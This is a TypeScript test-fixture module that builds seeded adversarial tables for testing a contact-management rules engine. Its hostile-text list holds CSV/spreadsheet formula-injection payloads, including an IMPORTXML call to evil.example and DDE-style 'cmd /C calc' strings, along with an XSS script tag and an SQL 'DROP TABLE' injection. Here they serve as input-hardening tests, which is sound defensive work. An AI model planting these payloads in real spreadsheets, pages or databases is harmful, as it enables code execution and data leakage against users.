import { headerOf, type InputColumn } from "../../shared/contacts/columns.js";
import { type Day, isoDay } from "../../shared/contacts/days.js";

/**
 * Generated hostile tables: good rows from a few known shapes (their action is known without
 * running the rules) whose free-text cells hold adversarial text, and bad rows with one
 * unreadable value in a known column. Seeded, so a failure can be replayed.
 */
export const HOSTILE_TEXT = [
  '=IMPORTXML("http://evil.example/x","//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  '=HYPERLINK("http://evil","click")',
  "\t=1+1",
  "نص من اليمين إلى اليسار",
  "‮reversed‬ text",
  "emoji 👩‍💻🚀🏳️‍🌈",
  "line\nbreak\r\nand\rmore",
  'quote " and ""double"" quotes, commas, ;semicolons;',
  "\u0000\u0001\u0007 control \u001b[31m characters",
  "x".repeat(40_000),
  "   spaces around   ",
  "<script>alert(1)</script>",
  "'; DROP TABLE contacts; --",
];

interface Shape {
  cells: Partial<Record<InputColumn, string>>;
  action: string;
}

/** Good rows whose action follows from the rules table directly (budgets are set out of the way). */
export const GOOD_SHAPES: Shape[] = [
  { cells: { relationship: "Admire their work" }, action: "Follow" },
  { cells: { aligned: "No" }, action: "Hold off" },
  { cells: {}, action: "Hold off" },
  { cells: { status: "Incoming request", relationship: "Met in person" }, action: "Accept" },
  { cells: { status: "Incoming request", profile: "Suspicious" }, action: "Decline" },
  { cells: { status: "Connected", aligned: "No" }, action: "Review connection" },
  { cells: { status: "Following", aligned: "No" }, action: "Unfollow" },
  { cells: { status: "Declined" }, action: "No action" },
  { cells: { status: "Withdrawn", aligned: "Yes" }, action: "Follow" },
  { cells: { relationship: "Worked together" }, action: "Connect" },
];

/** One unreadable value per bad row, and the column its Fix row must name. */
export const BAD_VALUES: [InputColumn, string][] = [
  ["status", "Pendng"],
  ["status", "=1+1"],
  ["type", "Robot"],
  ["relationship", "Best friends"],
  ["aligned", "Maybe"],
  ["profile", "Shady"],
  ["requestedOn", "31/02/2026"],
  ["connectedOn", "yesterday"],
  ["lastInteraction", "2099-01-01"],
  ["mutualConnections", "-1"],
  ["mutualConnections", "2.5"],
  ["keepInTouchDays", "0"],
  ["linkedinUrl", "https://evil.example/in/someone"],
  ["milestoneOn", "@SUM(1)"],
];

const FREE_TEXT: InputColumn[] = ["company", "title", "metAt", "notes", "interests"];

export interface HostileTable {
  header: string[];
  rows: string[][];
  /** Per data row: the action it must get, and for a Fix row the header its Why must name. */
  expected: { action: string; column?: string }[];
}

export function hostileTable(count: number, seed: number, today: Day): HostileTable {
  let state = seed;
  const random = () => {
    state = (state * 48_271) % 2_147_483_647;
    return state / 2_147_483_647;
  };
  const pick = <T>(values: readonly T[]): T => values[Math.floor(random() * values.length)] as T;
  // Odd spacing and case in the headers: they must still be found.
  const columns: InputColumn[] = [
    "name",
    "linkedinUrl",
    "type",
    "company",
    "title",
    "relationship",
    "metAt",
    "status",
    "aligned",
    "mutualConnections",
    "profile",
    "requestedOn",
    "connectedOn",
    "lastInteraction",
    "keepInTouchDays",
    "interests",
    "milestoneOn",
    "notes",
  ];
  const header = columns.map((column, index) =>
    index % 3 === 0 ? `  ${headerOf(column).toUpperCase()} ` : headerOf(column).replace(" ", "  "),
  );
  header.push("Unknown =cmd column");
  const rows: string[][] = [];
  const expected: HostileTable["expected"] = [];
  let lastOriginal = -1;
  for (let index = 0; index < count; index++) {
    const cells: Partial<Record<InputColumn, string>> = {
      name: random() < 0.3 ? pick(HOSTILE_TEXT).slice(0, 200) || "x" : `Person ${index}`,
      linkedinUrl: `https://www.linkedin.com/in/hostile-${seed}-${index}`,
    };
    for (const column of FREE_TEXT) if (random() < 0.5) cells[column] = pick(HOSTILE_TEXT);
    let outcome: HostileTable["expected"][number];
    if (lastOriginal >= 0 && random() < 0.05) {
      // Another spelling of an earlier row's profile: a duplicate.
      cells.linkedinUrl = `linkedin.com/in/HOSTILE-${seed}-${lastOriginal}/?trk=x`;
      outcome = { action: "Merge duplicate" };
      Object.assign(cells, pick(GOOD_SHAPES).cells);
    } else if (random() < 0.3) {
      const [column, value] = pick(BAD_VALUES);
      Object.assign(cells, pick(GOOD_SHAPES).cells, { [column]: value });
      if (column === "requestedOn") cells.status = "Request sent";
      outcome = { action: "Fix row", column: headerOf(column) };
    } else {
      const shape = pick(GOOD_SHAPES);
      Object.assign(cells, shape.cells);
      outcome = { action: shape.action };
      if (random() < 0.2) cells.connectedOn = isoDay(today - 400);
    }
    if (outcome.action !== "Merge duplicate" && outcome.column !== headerOf("linkedinUrl"))
      lastOriginal = index;
    rows.push([...columns.map((column) => cells[column] ?? ""), pick(HOSTILE_TEXT).slice(0, 50)]);
    expected.push(outcome);
  }
  return { header, rows, expected };
}

/** Settings that keep the budgets from turning Connect into Connect later. */
export const NO_BUDGET_LIMITS = [
  { setting: "Weekly invite budget", value: "1000000", where: "test" },
  { setting: "Check-ins at a time", value: "1000000", where: "test" },
];
